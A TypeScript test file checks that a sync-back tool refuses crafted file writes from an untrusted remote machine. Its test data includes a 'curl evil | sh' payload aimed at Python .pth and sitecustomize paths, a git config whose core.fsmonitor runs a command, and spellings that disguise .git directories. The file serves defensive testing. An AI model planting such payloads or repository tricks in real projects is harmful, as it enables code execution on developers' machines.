/**
 * SECURITY.md 46, 47, 49, 50 (issue 21, items 2, 3, 5, 6): sync-back from a machine treated as
 * an attacker's. A fake runtime speaking the real protocol module sends crafted file messages to
 * a real `catty connect` (in-process, tests/helpers/sync-harness.ts, as for cases 10–17):
 * nothing ignored is written, nothing git would take for a repository is made, a save the user
 * makes while a write is under way is kept, and a conflict copy the user touched stays as it is.
 * Case 48 (bounded memory and log under a flood) is sync-back-flood.test.ts, on the built binary.
 */
import { spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { FILE_CHUNK_BYTES } from '../../session-runtime/wire/protocol.js';
import { hasOpen } from '../helpers/sync-binary.js';
import { SYNC_LABEL, listAll, sha, useSyncHarness, write } from '../helpers/sync-harness.js';
import { elapse, waitFor } from '../helpers/wait.js';

const h = useSyncHarness();
const logOf = (home: string) => fs.readFileSync(path.join(home, 'logs', `${SYNC_LABEL}.log`), 'utf8');
const read = (dir: string, rel: string) => fs.readFileSync(path.join(dir, rel), 'utf8');

describe('SECURITY.md 46: ignored paths are never written', () => {
  it.each([
    '.venv/lib/python3.11/site-packages/evil.pth',
    'venv/lib/python3.12/site-packages/sitecustomize.py',
    'node_modules/x/index.js',
    'web/node_modules/.bin/vite',
    '__pycache__/app.cpython-311.pyc',
    'pkg/mod.pyc',
    '.env',
    'Node_Modules/x/index.js',
  ])('46: %j (a built-in rule) is refused, counted and logged, never written', async (rel) => {
    const s = h.setup();
    const result = await h.connectWith(s, [write(rel, 'import os; os.system("curl evil | sh")'), write('ok.txt', 'fine')]);
    expect(result.code).toBe(0);
    expect(listAll(s.local)).toEqual(['ok.txt']);
    expect(result.stderr).toMatch(/1 written, 0 deleted, 0 conflicts, 1 refused/);
    expect(result.stderr).toContain('never written by sync-back');
    expect(logOf(s.home)).toContain(`refused ${rel}:`);
  });

  it('46: paths the project\'s .gitignore files (root, nested, and one above it in its repository) and .cattyignore ignore are refused', async () => {
    const s = h.setup({}, { '.gitignore': 'dist/\n*.log\n', 'sub/.gitignore': 'generated/\n', '.cattyignore': 'secret.txt\n' });
    // The project sits in a repository whose root .gitignore ignores its build/.
    const repo = path.dirname(s.local);
    fs.mkdirSync(path.join(repo, '.git'));
    fs.writeFileSync(path.join(repo, '.gitignore'), `${path.basename(s.local)}/build/\n`);
    const refused = ['dist/cli/bin.js', 'debug.log', 'sub/generated/x.js', 'secret.txt', 'build/out.js'];
    const result = await h.connectWith(s, [...refused.map((rel) => write(rel, 'payload')), write('sub/ok.js', 'fine'), write('src/dist.js', 'not ignored')]);
    expect(result.code).toBe(0);
    for (const rel of refused) expect(fs.existsSync(path.join(s.local, rel)), rel).toBe(false);
    expect(read(s.local, 'sub/ok.js')).toBe('fine');
    expect(read(s.local, 'src/dist.js')).toBe('not ignored');
    expect(result.stderr).toMatch(/2 written, 0 deleted, 0 conflicts, 5 refused/);
  });

  it('46: a negation that re-includes a dependency folder for the upload does not open it to sync-back', async () => {
    const s = h.setup({}, { '.cattyignore': '!node_modules/\n!.venv/\n' });
    const result = await h.connectWith(s, [write('node_modules/x/index.js', 'payload'), write('.venv/lib/python3.11/site-packages/evil.pth', 'payload')]);
    expect(result.code).toBe(0);
    expect(listAll(s.local)).toEqual(['.cattyignore']);
    expect(result.stderr).toMatch(/2 refused/);
  });

  it('46: the laptop\'s rules at the time of the write decide: a .gitignore the session wrote counts once it is here', async () => {
    const s = h.setup({ '.gitignore': 'dist/\n' }, { '.gitignore': 'dist/\n' });
    const result = await h.connectWith(s, [
      write('gen/early.js', 'before the rule'),
      write('.gitignore', 'gen/\n'), // the session stops ignoring dist/ and ignores gen/
      write('gen/late.js', 'after the rule'),
      write('dist/app.js', 'now visible to git status'),
    ]);
    expect(result.code).toBe(0);
    expect(read(s.local, '.gitignore')).toBe('gen/\n');
    expect(read(s.local, 'gen/early.js')).toBe('before the rule');
    expect(fs.existsSync(path.join(s.local, 'gen/late.js'))).toBe(false);
    expect(read(s.local, 'dist/app.js')).toBe('now visible to git status');
    expect(result.stderr).toMatch(/3 written, 0 deleted, 0 conflicts, 1 refused/);
  });

  it('46: .cattyignore is never written nor deleted (its negations could bring back what git ignores, out of sight)', async () => {
    const s = h.setup({ '.cattyignore': 'secret.txt\n', 'sub/.cattyignore': 'x\n' }, { '.gitignore': 'dist/\n', '.cattyignore': 'secret.txt\n', 'sub/.cattyignore': 'x\n' });
    const result = await h.connectWith(s, [write('.CattyIgnore', '!dist/\n'), write('.cattyignore', '!dist/\n'), { type: 'file_change', path: 'sub/.cattyignore', action: 'delete' }, write('dist/cli/bin.js', 'payload')]);
    expect(result.code).toBe(0);
    expect(read(s.local, '.cattyignore')).toBe('secret.txt\n');
    expect(read(s.local, 'sub/.cattyignore')).toBe('x\n');
    expect(fs.existsSync(path.join(s.local, 'dist'))).toBe(false);
    expect(fs.existsSync(path.join(s.local, '.CattyIgnore'))).toBe(false);
    expect(result.stderr).toMatch(/4 refused/);
    expect(result.stderr).toContain('.cattyignore decides what sync-back writes');
  });

  it('46: a remote delete of an ignored path is refused too', async () => {
    const s = h.setup({ '.env': 'A=1' }, { '.env': 'A=1' });
    const result = await h.connectWith(s, [{ type: 'file_change', path: '.env', action: 'delete' }]);
    expect(read(s.local, '.env')).toBe('A=1');
    expect(result.stderr).toMatch(/1 refused/);
  });
});

describe('SECURITY.md 47: nothing git would discover as a repository', () => {
  const FSMONITOR_CONFIG = (marker: string) => `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch ${marker}; false"\n`;
  const bare = (marker: string): Record<string, string> => ({
    'vendor/lib/HEAD': 'ref: refs/heads/main\n',
    'vendor/lib/config': FSMONITOR_CONFIG(marker),
    'vendor/lib/objects/info/packs': '\n',
    'vendor/lib/refs/heads/main': `${'a'.repeat(40)}\n`,
  });
  /** Runs `git status` in `dir` (never above `ceiling`); whether git took `dir` for a repository. */
  const gitStatus = (dir: string, ceiling: string): boolean => spawnSync('git', ['status'], { cwd: dir, env: { ...process.env, GIT_CEILING_DIRECTORIES: ceiling }, stdio: 'ignore' }).status === 0;

  it('47: the control — the same files made by hand do make a repository whose git status runs core.fsmonitor', () => {
    const s = h.setup();
    const marker = path.join(s.outside, 'PWNED');
    for (const [rel, content] of Object.entries(bare(marker))) {
      fs.mkdirSync(path.dirname(path.join(s.local, rel)), { recursive: true });
      fs.writeFileSync(path.join(s.local, rel), content);
    }
    gitStatus(path.join(s.local, 'vendor/lib'), path.dirname(s.local));
    expect(fs.existsSync(marker)).toBe(true);
  });

  it.each([
    ['HEAD, config, objects, refs', ['vendor/lib/HEAD', 'vendor/lib/config', 'vendor/lib/objects/info/packs', 'vendor/lib/refs/heads/main']],
    ['refs, objects, config, HEAD', ['vendor/lib/refs/heads/main', 'vendor/lib/objects/info/packs', 'vendor/lib/config', 'vendor/lib/HEAD']],
    ['objects, HEAD, config, refs', ['vendor/lib/objects/info/packs', 'vendor/lib/HEAD', 'vendor/lib/config', 'vendor/lib/refs/heads/main']],
  ])('47: a bare repository\'s pieces sent in the order %s: the completing one is refused, git status runs nothing', async (_order, paths) => {
    const s = h.setup();
    const marker = path.join(s.outside, 'PWNED');
    const files = bare(marker);
    const result = await h.connectWith(s, paths.map((rel) => write(rel, files[rel] as string)));
    expect(result.code).toBe(0);
    expect(result.stderr).toMatch(/3 written, 0 deleted, 0 conflicts, 1 refused/);
    expect(result.stderr).toContain('look like a git repository');
    const lib = path.join(s.local, 'vendor/lib');
    expect(gitStatus(lib, path.dirname(s.local))).toBe(false);
    expect(fs.existsSync(marker)).toBe(false);
  });

  it('47: HEAD with a commondir (a worktree\'s git dir: HEAD, commondir, gitdir) is refused', async () => {
    const s = h.setup();
    const result = await h.connectWith(s, [write('wt/gitdir', '/elsewhere/.git\n'), write('wt/HEAD', `${'b'.repeat(40)}\n`), write('wt/commondir', '../vendor/lib\n')]);
    expect(result.code).toBe(0);
    expect(fs.existsSync(path.join(s.local, 'wt/commondir'))).toBe(false);
    expect(result.stderr).toMatch(/1 refused/);
  });

  it('47: executable files named objects and refs count as present (git only asks that they be reachable)', async () => {
    const s = h.setup();
    const result = await h.connectWith(s, [write('x/objects', '', true), write('x/refs', '', true), write('x/HEAD', 'ref: refs/heads/main\n')]);
    expect(result.code).toBe(0);
    expect(fs.existsSync(path.join(s.local, 'x/HEAD'))).toBe(false);
    expect(result.stderr).toMatch(/2 written, 0 deleted, 0 conflicts, 1 refused/);
  });

  it('47: nothing is written into a directory that already has a git dir\'s shape (its config, hooks, packed-refs)', async () => {
    const s = h.setup({}, { 'mirror/HEAD': 'ref: refs/heads/main\n', 'mirror/objects/info/packs': '\n', 'mirror/refs/heads/main': `${'c'.repeat(40)}\n` });
    const result = await h.connectWith(s, [write('mirror/config', FSMONITOR_CONFIG('/tmp/x')), write('mirror/hooks/post-checkout', '#!/bin/sh\n', true), write('mirror/packed-refs', '\n')]);
    expect(result.code).toBe(0);
    expect(listAll(path.join(s.local, 'mirror')).filter((n) => !n.startsWith('objects') && !n.startsWith('refs'))).toEqual(['HEAD']);
    expect(result.stderr).toMatch(/3 refused/);
  });

  it.each(['sub/.git', 'sub/.git.', 'sub/.GIT ', 'GIT~1/config', 'sub/.g\u200cit/config', 'sub/.git\ufeff'])('47: %j — a gitfile or a spelling a laptop folds into .git — is refused', async (rel) => {
    const s = h.setup();
    const result = await h.connectWith(s, [write(rel, 'gitdir: ../../outside/evil\n'), write('ok.txt', 'fine')]);
    expect(result.code).toBe(0);
    expect(listAll(s.local)).toEqual(['ok.txt']);
    expect(result.stderr).toContain('.git is never written');
  });
});

describe('SECURITY.md 49: the conflict check runs where the file is committed', () => {
  it('49: the user saves between two chunks of a slow transfer: their version stays, the session\'s lands beside it', async () => {
    const s = h.setup({ 'notes.txt': 'base' }, { 'notes.txt': 'base' });
    const next = crypto.randomBytes(FILE_CHUNK_BYTES * 2 + 10);
    const result = await h.connectWith(s, async (client) => {
      client.send({ type: 'file_change', path: 'notes.txt', action: 'write', executable: false, size: next.length, sha256: sha(next), chunks: 3, transfer: 1 });
      client.send({ type: 'file_chunk', transfer: 1, index: 0, data: next.subarray(0, FILE_CHUNK_BYTES).toString('base64') });
      await waitFor(() => fs.readdirSync(s.local).some((n) => n.includes('.catty-tmp-')), 'the transfer to start');
      await elapse(300); // on purpose: the runtime sets the pace
      fs.writeFileSync(path.join(s.local, 'notes.txt'), 'saved by the user during the transfer');
      await elapse(300);
      client.send({ type: 'file_chunk', transfer: 1, index: 1, data: next.subarray(FILE_CHUNK_BYTES, FILE_CHUNK_BYTES * 2).toString('base64') });
      await elapse(300);
      client.send({ type: 'file_chunk', transfer: 1, index: 2, data: next.subarray(FILE_CHUNK_BYTES * 2).toString('base64') });
    });
    expect(result.code).toBe(0);
    expect(read(s.local, 'notes.txt')).toBe('saved by the user during the transfer');
    expect(fs.readFileSync(path.join(s.local, `notes.catty-conflict-${SYNC_LABEL}.txt`)).equals(next)).toBe(true);
    expect(result.stderr).toMatch(/0 written, 0 deleted, 1 conflicts/);
  });

  it.each(['whole', 'chunked'])('49: the user saves (an editor\'s write-and-rename) while the CLI reads the local file to decide (a %s write): the save is kept', async (how) => {
    const s = h.setup();
    // A large local file (sparse: no disk), equal to the base, so reading it to decide takes a while.
    const big = path.join(s.local, 'big.dat');
    const fd = fs.openSync(big, 'w');
    fs.ftruncateSync(fd, 256 * 1024 * 1024);
    fs.closeSync(fd);
    const zeros = crypto.createHash('sha256');
    for await (const chunk of fs.createReadStream(big)) zeros.update(chunk as Buffer);
    fs.writeFileSync(path.join(s.home, 'sessions', `${SYNC_LABEL}.manifest.json`), JSON.stringify({ version: 1, files: { 'big.dat': { sha256: zeros.digest('hex'), executable: false } } }));
    const result = await h.connectWith(s, async (client) => {
      const version = Buffer.from('the session\'s version');
      if (how === 'whole') client.send(write('big.dat', version.toString()));
      else {
        client.send({ type: 'file_change', path: 'big.dat', action: 'write', executable: false, size: version.length, sha256: sha(version), chunks: 2, transfer: 9 });
        client.send({ type: 'file_chunk', transfer: 9, index: 0, data: version.subarray(0, 5).toString('base64') });
        client.send({ type: 'file_chunk', transfer: 9, index: 1, data: version.subarray(5).toString('base64') });
      }
      // The CLI is reading big.dat: the user saves now, the way editors do.
      await waitFor(() => hasOpen(process.pid, big), 'the CLI to read big.dat', { everyMs: 5 });
      fs.writeFileSync(path.join(s.local, '.big.dat.swp'), 'the user\'s save');
      fs.renameSync(path.join(s.local, '.big.dat.swp'), big);
    });
    expect(result.code).toBe(0);
    expect(read(s.local, 'big.dat')).toBe('the user\'s save');
    expect(read(s.local, `big.catty-conflict-${SYNC_LABEL}.dat`)).toBe('the session\'s version');
    expect(result.stderr).toMatch(/0 written, 0 deleted, 1 conflicts/);
  });
});

describe('SECURITY.md 50: a conflict copy the user touched is never replaced', () => {
  it('50: the user merges into the copy; the next version lands in a new copy beside it, which is refreshed while untouched', async () => {
    const s = h.setup({ 'notes.txt': 'base' }, { 'notes.txt': 'mine' });
    const copy1 = path.join(s.local, `notes.catty-conflict-${SYNC_LABEL}.txt`);
    const copy2 = path.join(s.local, `notes.catty-conflict-${SYNC_LABEL}-2.txt`);
    const result = await h.connectWith(s, async (client) => {
      client.send(write('notes.txt', 'session v1'));
      await waitFor(() => fs.existsSync(copy1) && fs.readFileSync(copy1, 'utf8') === 'session v1', 'the first copy');
      fs.writeFileSync(copy1, 'merged by hand');
      client.send(write('notes.txt', 'session v2'));
      await waitFor(() => fs.existsSync(copy2) && fs.readFileSync(copy2, 'utf8') === 'session v2', 'the second copy');
      client.send(write('notes.txt', 'session v3'));
      await waitFor(() => fs.readFileSync(copy2, 'utf8') === 'session v3', 'the second copy refreshed');
    });
    expect(result.code).toBe(0);
    expect(read(s.local, 'notes.txt')).toBe('mine');
    expect(fs.readFileSync(copy1, 'utf8')).toBe('merged by hand');
    expect(listAll(s.local)).toEqual(['notes.catty-conflict-hostile-otter-0001-2.txt', 'notes.catty-conflict-hostile-otter-0001.txt', 'notes.txt']);
    expect(result.stderr).toMatch(/1 conflicts/);
  });

  it('50: a copy the user touched is kept across attaches too (the base says which copy is ours)', async () => {
    const s = h.setup({ 'notes.txt': 'base' }, { 'notes.txt': 'mine' });
    await h.connectWith(s, [write('notes.txt', 'session v1')]);
    const copy1 = path.join(s.local, `notes.catty-conflict-${SYNC_LABEL}.txt`);
    fs.appendFileSync(copy1, '\n-- my merge notes');
    await h.connectWith(s, [write('notes.txt', 'session v2')]);
    expect(fs.readFileSync(copy1, 'utf8')).toBe('session v1\n-- my merge notes');
    expect(read(s.local, `notes.catty-conflict-${SYNC_LABEL}-2.txt`)).toBe('session v2');
  });
});
